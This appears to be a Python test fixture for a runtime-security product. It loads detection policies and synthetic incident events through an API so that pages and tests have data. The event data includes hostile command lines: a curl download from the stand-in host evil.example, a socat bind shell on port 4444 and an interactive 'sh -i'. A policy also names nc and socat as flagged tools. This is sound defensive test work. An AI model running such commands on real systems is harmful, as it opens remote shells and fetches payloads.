"""Policies, what deviates from them, and one night's trace, put there through the API: for screenshots and tests of pages."""

from __future__ import annotations

import time
from typing import Any

import httpx
from tests.system.running import wait_for

POLICIES = """
apiVersion: quell.dev/v1
kind: Policy
metadata: {name: shop-web, type: container}
spec:
  mode: audit
  containerSelector: {matchFields: {image: "registry.example/shop/nginx:*"}}
  processPolicy:
    - {id: nginx, name: nginx, exe: [/usr/sbin/nginx], euser: [root], children: [{id: worker, name: nginx, exe: [/usr/sbin/nginx], euser: [nginx]}]}
  response:
    default: [{makeRedFlag: {severity: high, impact: Something runs in the shop that was never seen there}}]
    actions:
      - agentKillProcess: {processSelector: {matchFields: {exe: "/bin/*sh"}}}
      - makeRedFlag: {severity: critical, processSelector: {matchFieldsExpressions: [{key: name, operator: In, values: [nc, socat]}]}}
---
apiVersion: quell.dev/v1
kind: Policy
metadata: {name: prod, type: cluster}
spec:
  mode: audit
  clusterSelector: {matchFields: {name: prod}}
  rulesets: [prod-images]
  response: {default: [{makeRedFlag: {severity: high}}]}
---
apiVersion: quell.dev/v1
kind: Ruleset
metadata: {name: prod-images, type: cluster}
spec:
  rules:
    - {target: "container::image", verb: allow, values: ["registry.example/shop/*"]}
    - {target: "container::image", verb: deny, values: ["registry.example/shop/debug:*"]}
    - {target: "container::image", verb: allow, values: ["registry.example/shop/debug:1"], namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: staging}}}
---
apiVersion: quell.dev/v1
kind: Policy
metadata: {name: nightly-backup, type: trace}
spec:
  mode: audit
  traceSelector: {matchFields: {triggerAncestors: systemd/backup.sh/rsync}}
  machineSelector: {matchFields: {hostname: "db-*"}}
  allowedFlags: [{class: "redflag/proc/host_suspicious_process/*"}]
"""
#: Name, executable and how many processes of it.
_SEEN = (
    ("nc", "/usr/bin/nc", 3),
    ("sh", "/bin/sh", 5),
    ("curl", "/usr/bin/curl", 1),
    ("python3", "/usr/bin/python3", 2),
)


#: The id of the night's trace, which comes from the flag that opens it.
NIGHT = "d167addf3c764f34"
NIGHT_RULE = """
apiVersion: quell.dev/v1
kind: ResponseRule
metadata: {name: watch-list}
spec:
  event: incident
  criteria: ["name:Host.Suspicious.Download"]
  actions:
    - makeRedFlag:
        severity: high
        impact: A program came from elsewhere
        content: |
          **Look first** at what was fetched:

          1. `quell traces show` has the chain
          2. the [runbook](https://runbooks.example/downloads) says whom to call

          | host | owner |
          |---|---|
          | db-1 | storage |
"""


def with_a_night(admin: httpx.Client) -> None:
    """Three programs below one shell of a backup, and the trace that they are."""
    admin.post("/v1/documents", content=NIGHT_RULE).raise_for_status()
    shell = [["backup.sh", "/bin/bash", "backup", 4600, 84_000], ["systemd", "/usr/lib/systemd/systemd", "root", 1, 1]]
    for place, (name, command, ticks, lineage) in enumerate(
        (
            ("curl", "curl -O evil.example/x", 84_300, [["sh", "/bin/sh", "backup", 4700, 84_100], *shell]),
            ("socat", "socat TCP-LISTEN:4444 EXEC:sh", 84_200, [["sh", "/bin/sh", "backup", 4700, 84_100], *shell]),
            ("sh", "sh -i", 84_100, shell),
        )
    ):
        event = {
            "id": f"night-{place}",
            "name": "Host.Suspicious.Download",
            "category": "incident",
            "level": "Critical",
            "details": {"message": f"{command} is on the watch list"},
            "subject": {
                "node": "db-1",
                "process": {
                    "pid": 4700 if name == "sh" else 4711 + place,
                    "start_ticks": ticks,
                    "boot_id": "night",
                    "name": name,
                    "user": "backup",
                    "cmdline": command,
                    "lineage": lineage,
                },
            },
        }
        admin.post("/v1/events", json=event).raise_for_status()
    wait_for(lambda: night(admin).get("flag_count") == 3, 60, "the night's trace")


def night(admin: httpx.Client) -> dict[str, Any]:
    """The trace; {}: it is not there yet."""
    answer = admin.get(f"/v1/traces/{NIGHT}")
    found: dict[str, Any] = answer.json() if answer.status_code == 200 else {}
    return found


def with_policies(admin: httpx.Client) -> None:
    admin.post("/v1/documents", content=POLICIES).raise_for_status()
    seen = [
        executed(name, exe, 7000 + 100 * place + number)
        for place, (name, exe, count) in enumerate(_SEEN)
        for number in range(count)
    ]
    admin.post("/v1/observations", json=seen).raise_for_status()


def executed(name: str, exe: str, pid: int) -> dict[str, Any]:
    """A process below the nginx of the shop."""
    container = "7368" + "0" * 60
    return {
        "seen": "executed",
        "time": time.time(),
        "inside": 1,
        "subject": {
            "node": "edge-1",
            "image": "registry.example/shop/nginx:1.27",
            "namespace": "shop",
            "container": {"id": container, "name": "shop-web"},
            "process": {
                "pid": pid,
                "start_ticks": 8_000_000 + pid,
                "boot_id": "boot",
                "name": name,
                "exe": exe,
                "user": "root",
                "lineage": [
                    ["nginx", "/usr/sbin/nginx", "root", 6000, 8_000_000],
                    ["conmon", "/usr/bin/conmon", "root", 5990, 7_999_000],
                ],
            },
        },
    }
